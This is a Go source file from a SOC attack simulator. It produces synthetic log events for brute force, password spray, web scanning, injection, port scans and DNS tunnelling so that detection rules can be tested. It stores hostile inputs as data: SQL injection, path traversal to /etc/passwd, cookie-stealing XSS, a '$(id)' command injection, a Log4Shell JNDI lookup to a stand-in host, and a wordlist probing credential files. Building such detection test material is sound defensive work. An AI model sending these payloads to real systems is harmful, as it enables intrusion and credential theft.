package simulate

import (
	"encoding/base32"
	"math"
	"net/netip"
	"strconv"
	"strings"
	"time"
)

// AttackKind names a kind of simulated attack.
type AttackKind int

// The attacks the simulator plays, each shaped to trip one of the baseline
// threshold rules (rules/threshold) by the events it produces.
const (
	SSHBruteForce AttackKind = iota // egovsoc-ssh-bruteforce
	PasswordSpray                   // egovsoc-password-spray
	WebScan                         // egovsoc-web-scan
	WebInjection                    // egovsoc-web-injection
	PortScan                        // egovsoc-port-scan
	DNSTunnel                       // egovsoc-dns-tunnel
	numKinds
)

var kindNames = [numKinds]string{"ssh-bruteforce", "password-spray", "web-scan", "web-injection", "port-scan", "dns-tunnel"}

func (k AttackKind) String() string {
	if k >= 0 && k < numKinds {
		return kindNames[k]
	}
	return "attack-" + strconv.Itoa(int(k))
}

// Attack schedule: a new attack every attackEvery, at a different site each
// time until every site has had one, the kinds in a shuffled order within
// each run of six slots, so every minute sees every kind.
const (
	attackEvery = 10 * time.Second
	attackLead  = 3 * time.Second
)

// Attack is one scheduled attack, for tests and for the demo's narration.
type Attack struct {
	Kind   AttackKind
	Org    string
	Source netip.Addr // the attacker; for DNS tunnelling, the infected workstation
	Start  time.Time
	End    time.Time // time of its last event
	Events int
}

type attack struct {
	Attack
	slot  int
	name  string // stream name in event ids
	st    *site
	key   uint64
	rate  float64 // events per second
	sport uint16
	vh    *vhost
	srv   server
	dst   netip.Addr
	agent string
	dom   string
	off   int
}

// at is the time of event i: evenly paced with a little jitter, increasing.
func (a *attack) at(i int) time.Time {
	sec := (float64(i) + 0.8*unit(mix(a.key, uint64(i)))) / a.rate
	return a.Start.Add(time.Duration(sec * float64(time.Second))).Truncate(time.Microsecond)
}

// slotStart is when the attack of slot k begins.
func (s *Simulator) slotStart(k int) time.Time {
	j := unit(mix(s.seed^saltAttack, uint64(k))) * 3
	return s.start.Add(attackLead + time.Duration(k)*attackEvery + time.Duration(j*float64(time.Second))).Truncate(time.Microsecond)
}

// permute is a Fisher–Yates shuffle of 0..n-1 driven by h.
func permute(n int, h uint64) []int {
	p := make([]int, n)
	for i := range p {
		p[i] = i
	}
	for i := n - 1; i > 0; i-- {
		j := int(mix(h, uint64(i)) % uint64(i+1))
		p[i], p[j] = p[j], p[i]
	}
	return p
}

// attackers are the address blocks attacks come from.
var attackers = [][3]byte{{192, 0, 2}, {198, 51, 100}, {203, 0, 113}}

var tunnelDomains = []string{"cdn-sync.example", "update-check.example", "telemetry-cloud.example", "msedge-update.example", "vn-news-cdn.example"}

var scannerAgents = []string{
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
	"gobuster/3.6",
	"Fuzz Faster U Fool v2.1.0-dev",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 Nuclei",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000102)",
}

// materialise builds the attack of slot k.
func (s *Simulator) materialise(k int) *attack {
	n := len(s.sites)
	kind := AttackKind(permute(int(numKinds), mix(s.seed^saltKinds, uint64(k/int(numKinds))))[k%int(numKinds)])
	st := s.sites[permute(n, mix(s.seed^saltRound, uint64(k/n)))[k%n]]
	h := mix(s.seed^saltAttack, uint64(k)+1<<32)
	a := &attack{slot: k, st: st, key: h}
	a.Kind, a.Org, a.Start = kind, st.code, s.slotStart(k)
	a.name = kind.String() + "-" + strconv.Itoa(k)
	blk := attackers[h%3]
	a.Source = ip4(blk[0], blk[1], blk[2], byte(1+mix(h, 1)%254))
	a.sport = uint16(40000 + mix(h, 2)%25000)
	a.off = int(mix(h, 3) % 1024)
	u := unit(mix(h, 4))
	v := unit(mix(h, 5))
	var secs float64
	switch kind {
	case SSHBruteForce:
		a.rate, secs = 2+2*u, 25+20*v
		a.srv = st.servers[[]int{0, 4}[mix(h, 6)%2]]
	case PasswordSpray:
		a.rate, secs = 0.4+0.3*u, 30+20*v
	case WebScan:
		a.rate, secs = 5+4*u, 20+20*v
		a.vh = st.publicVhost("")
		a.agent = scannerAgents[mix(h, 6)%uint64(len(scannerAgents))]
	case WebInjection:
		a.rate, secs = 0.5+u, 20+20*v
		a.vh = st.publicVhost("public-service-portal")
	case PortScan:
		a.rate, secs = 6+6*u, 20+20*v
		a.dst = st.mailIP
		if vh := st.publicVhost(""); vh != nil {
			a.dst = vh.ip
		}
	case DNSTunnel:
		a.rate, secs = 1.5+1.5*u, 30+20*v
		a.Source = st.workstation(int(mix(h, 6) % 480))
		a.dom = tunnelDomains[mix(h, 7)%uint64(len(tunnelDomains))]
	}
	if a.vh == nil && (kind == WebScan || kind == WebInjection) {
		// A site without a web site of its own: scan its mail server instead.
		kind = PortScan
		a.Kind, a.name = kind, kind.String()+"-"+strconv.Itoa(k)
		a.rate, a.dst = 6+6*u, st.mailIP
	}
	a.Events = int(math.Ceil(secs * a.rate))
	a.End = a.at(a.Events - 1)
	return a
}

// Attacks returns the attacks whose events fall in [from, to], in the order
// they start. It is valid once Step has been called: the schedule counts
// from the first step.
func (s *Simulator) Attacks(from, to time.Time) []Attack {
	s.mu.Lock()
	defer s.mu.Unlock()
	if !s.started {
		return nil
	}
	var out []Attack
	for k := 0; ; k++ {
		if s.slotStart(k).After(to) {
			return out
		}
		a := s.materialise(k)
		if !a.End.Before(from) {
			out = append(out, a.Attack)
		}
	}
}

// attackRecords appends the events of the attacks in (from, now].
func (s *Simulator) attackRecords(out []Record, from, now time.Time) []Record {
	for !s.slotStart(s.nextSlot).After(now) {
		a := s.materialise(s.nextSlot)
		s.attacks = append(s.attacks, a)
		s.nextSlot++
		s.log.Debug().Str("org", a.Org).Str("attack", a.Kind.String()).Str("source", a.Source.String()).
			Time("start", a.Start).Dur("duration", a.End.Sub(a.Start)).Int("events", a.Events).Msg("attack scheduled")
	}
	keep := s.attacks[:0]
	for _, a := range s.attacks {
		if a.End.After(from) {
			keep = append(keep, a)
		}
	}
	clear(s.attacks[len(keep):])
	s.attacks = keep
	for _, a := range s.attacks {
		lo := int(math.Floor(from.Sub(a.Start).Seconds()*a.rate)) - 1
		hi := int(math.Ceil(now.Sub(a.Start).Seconds()*a.rate)) + 1
		lo, hi = max(lo, 0), min(hi, a.Events-1)
		for i := lo; i <= hi; i++ {
			if t := a.at(i); t.After(from) && !t.After(now) {
				out = append(out, s.attackEvent(a, i, t))
			}
		}
	}
	return out
}

func (s *Simulator) attackEvent(a *attack, i int, t time.Time) Record {
	st := a.st
	ts := string(appendTime(nil, t))
	id := eventID(st.code, a.name, uint64(i), ts)
	h := mix(a.key, uint64(i)+1<<40)
	src := a.Source.String()
	switch a.Kind {
	case SSHBruteForce:
		l := login{host: a.srv.name, process: "sshd", pid: 20000 + (a.slot*977+i)%40000, src: a.Source,
			sport: 30000 + int(h%35000), outcome: "failure", action: "ssh_login", category: catAuth, typ: typInfo, method: "password"}
		l.user = "root"
		if u := (h >> 20) % 10; u >= 7 {
			l.user = []string{"admin", "ubuntu", "oracle"}[u-7]
		}
		invalid := ""
		if l.user != "root" {
			invalid = "invalid user "
		}
		l.message = "Failed password for " + invalid + l.user + " from " + src + " port " + strconv.Itoa(l.sport) + " ssh2"
		return s.authDoc(st, t, ts, id, &l)
	case PasswordSpray:
		// One guess per account, down the staff directory harvested from
		// the portal, against the mail server.
		user := st.staff[(a.off+i)%len(st.staff)]
		l := login{host: st.mailHost, process: "dovecot", pid: 3000 + (a.slot*131+i)%50000, user: user, src: a.Source,
			outcome: "failure", action: "imap_login", category: catAuth, typ: typInfo}
		l.message = "pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 tty=dovecot ruser=" + user + " rhost=" + src + "  user=" + user
		return s.authDoc(st, t, ts, id, &l)
	case WebScan:
		q := request{method: "GET", path: scanPaths[(a.off+i)%len(scanPaths)], agent: a.agent, version: "1.1"}
		q.status, q.bytes = 404, int64(3_000+h%6_000)
		switch {
		case strings.HasPrefix(q.path, "/."), strings.HasPrefix(q.path, "/server-status"):
			q.status, q.bytes = 403, 548
		case q.path == "/admin" || q.path == "/quantri":
			q.status, q.bytes = 301, 169
		}
		return s.nginx(st, a.vh, t, ts, id, a.Source, &q)
	case WebInjection:
		p := injections[(a.off+i)%len(injections)]
		q := request{method: "GET", version: "1.1", agent: p.agent}
		q.path, q.query, _ = strings.Cut(p.uri, "?")
		q.status, q.bytes = 403, 548 // the WAF
		switch h % 10 {
		case 0, 1:
			q.status, q.bytes = 200, int64(18_000+h%40_000)
		case 2:
			q.status, q.bytes = 500, int64(400+h%2_000)
		case 3:
			q.status, q.bytes = 400, 157
		}
		return s.nginx(st, a.vh, t, ts, id, a.Source, &q)
	case PortScan:
		// A SYN to each port of one host, in an order no service would use.
		stride := uint64(2*(a.key%256) + 1)
		port := uint16(1 + (uint64(a.off)+uint64(i)*stride)%1024)
		f := flow{src: a.Source, dst: a.dst, sport: a.sport, dport: port, transport: "tcp", direction: "inbound",
			sbytes: 44, spackets: 1}
		switch port {
		case 22, 25, 80, 443, 587, 993:
			f.sbytes, f.spackets, f.dbytes, f.dpackets = 84, 2, 44, 1 // open: SYN, SYN-ACK, RST
		default:
			if h%4 == 0 {
				f.dbytes, f.dpackets = 40, 1 // closed: RST
			}
		}
		return s.flowDoc(st, t, ts, id, &f)
	default: // DNSTunnel
		// Data leaves base32-encoded in the query names; commands come back
		// in TXT records.
		var raw [32]byte
		for j := range 4 {
			x := mix(h, uint64(j))
			for b := range 8 {
				raw[j*8+b] = byte(x >> (8 * b))
			}
		}
		label := strings.ToLower(b32.EncodeToString(raw[:]))
		name := label + "." + strconv.FormatUint(uint64(i), 16) + ".t." + a.dom
		ans := []answer{{name, "TXT", strings.ToLower(b32.EncodeToString(raw[:10])), 0}}
		return s.dnsDoc(st, t, ts, id, a.Source, uint32(h), name, "TXT", "NOERROR", false, ans)
	}
}

var b32 = base32.StdEncoding.WithPadding(base32.NoPadding)

// scanPaths is a content-discovery wordlist, as gobuster and ffuf walk them.
var scanPaths = func() []string {
	out := []string{
		"/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.aws/credentials", "/.vscode/sftp.json",
		"/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin/", "/pma/", "/admin", "/administrator/",
		"/server-status", "/actuator/env", "/actuator/health", "/api/swagger.json", "/swagger-ui.html", "/v2/api-docs",
		"/web.config", "/cgi-bin/test.cgi", "/solr/admin/", "/jenkins/login", "/manager/html", "/console/",
		"/telescope/requests", "/_profiler/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/sftp-config.json",
		"/info.php", "/phpinfo.php", "/test.php", "/shell.php", "/upload.php", "/quantri", "/quan-tri/", "/admincp/",
		"/install/", "/setup.php", "/readme.html", "/license.txt", "/owa/", "/autodiscover/autodiscover.xml", "/ecp/",
		"/remote/login", "/global-protect/login.esp", "/dana-na/",
	}
	for _, w := range []string{"backup", "db", "dump", "site", "web", "data", "old", "config", "portal", "database"} {
		for _, ext := range []string{".zip", ".sql", ".tar.gz", ".bak", ".rar", ".7z"} {
			out = append(out, "/"+w+ext)
		}
	}
	return out
}()

type injection struct {
	uri   string
	agent string
}

const (
	sqlmap = "sqlmap/1.8.2#stable (https://sqlmap.org)"
	curl   = "curl/8.5.0"
	pyreq  = "python-requests/2.31.0"
	chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)

// injections are the requests of a web injection attempt; each carries a
// pattern of the egovsoc-web-injection rule (SQL injection, traversal,
// script and command injection).
var injections = []injection{
	{"/tra-cuu-ho-so?ma=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", sqlmap},
	{"/tra-cuu-ho-so?ma=-1%20union%20select%201,2,3,@@version--", sqlmap},
	{"/tra-cuu-ho-so?ma=1%27%20OR%20%271%27=%271", sqlmap},
	{"/tin-tuc?id=1%20AND%20SLEEP(5)", sqlmap},
	{"/tin-tuc?id=1%20AND%20BENCHMARK(5000000,MD5(1))", sqlmap},
	{"/uploads/../../../../etc/passwd", curl},
	{"/static/..%2f..%2f..%2f..%2fetc%2fpasswd", curl},
	{"/download?file=../../../../etc/passwd", pyreq},
	{"/index.php?page=..%2F..%2F..%2Fwindows%2Fwin.ini", pyreq},
	{"/tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", chrome},
	{"/tim-kiem?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", chrome},
	{"/cgi-bin/status?cmd=$(id)", curl},
	{"/?x=${jndi:ldap://203.0.113.77:1389/a}", curl},
}
